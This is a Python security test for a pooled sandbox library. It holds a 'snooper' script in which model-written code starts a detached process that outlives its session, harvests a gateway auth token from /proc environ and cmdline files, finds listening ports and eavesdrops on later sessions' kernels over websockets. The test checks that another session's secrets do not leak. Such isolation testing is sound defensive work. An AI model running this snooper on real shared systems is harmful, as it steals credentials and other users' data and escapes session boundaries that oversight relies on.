"""An adversary in a pooled session: a detached process that tries to read the next session.

What model-written code in session A can do on a shared sandbox: start a
process in a new session that survives A's kernel, look for the gateway's
token in every process's environment and command line, find the gateway's
port, list its kernels and open a websocket to each, writing whatever it
hears to a report file. Session B then prints a secret; the report must not
hold it.
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

from async_modal_exec import SandboxPool

SNOOPER = r"""
import json, os, re, sys, threading, time, urllib.request
import websocket

report = open(sys.argv[1], "a", buffering=1)
report.write("started\n")
listening = set()

def tokens():
    found = set()
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                continue
            found.update(m.decode() for m in re.findall(rb"KG_AUTH_TOKEN=([^\0\s]+)", data))
    return found

def ports():
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":
                found.add(int(fields[1].rsplit(":", 1)[1], 16))
    return found

def listen(port, token, kernel_id):
    try:
        ws = websocket.create_connection(
            f"ws://127.0.0.1:{port}/api/kernels/{kernel_id}/channels",
            header=[f"Authorization: token {token}"], timeout=60)
        report.write(f"listening to {kernel_id}\n")
        while True:
            report.write(ws.recv() + "\n")
    except Exception as exc:
        report.write(f"listen {kernel_id}: {exc!r}\n")

deadline = time.time() + 40
while time.time() < deadline:
    for token in tokens():
        for port in ports():
            try:
                request = urllib.request.Request(
                    f"http://127.0.0.1:{port}/api/kernels", headers={"Authorization": f"token {token}"})
                kernels = json.load(urllib.request.urlopen(request, timeout=1))
            except Exception:
                continue
            for kernel in kernels:
                if kernel["id"] not in listening:
                    listening.add(kernel["id"])
                    threading.Thread(target=listen, args=(port, token, kernel["id"]), daemon=True).start()
    time.sleep(0.1)
"""


def launch_code(report: Path) -> str:
    return (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {SNOOPER!r}, {str(report)!r}], start_new_session=True,"
        " stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )


async def snoop_across_sessions(pool: SandboxPool, report: Path) -> str:
    """Session A starts the snooper, session B prints secrets: what the snooper heard."""
    report.touch()
    async with pool.session(timeout=120) as first:
        (await first.run(launch_code(report))).raise_for_error()
        began = time.monotonic()
        while "started" not in report.read_text():
            assert time.monotonic() - began < 20, "the snooper did not start"
            await asyncio.sleep(0.05)
        await asyncio.sleep(1.0)  # time to find the gateway (it did, before the fix)
    async with pool.session(timeout=120) as second:
        for i in range(15):
            (await second.run(f"print('B-SECRET-{i}')")).raise_for_error()
            await asyncio.sleep(0.2)
    await asyncio.sleep(1.0)
    return report.read_text()
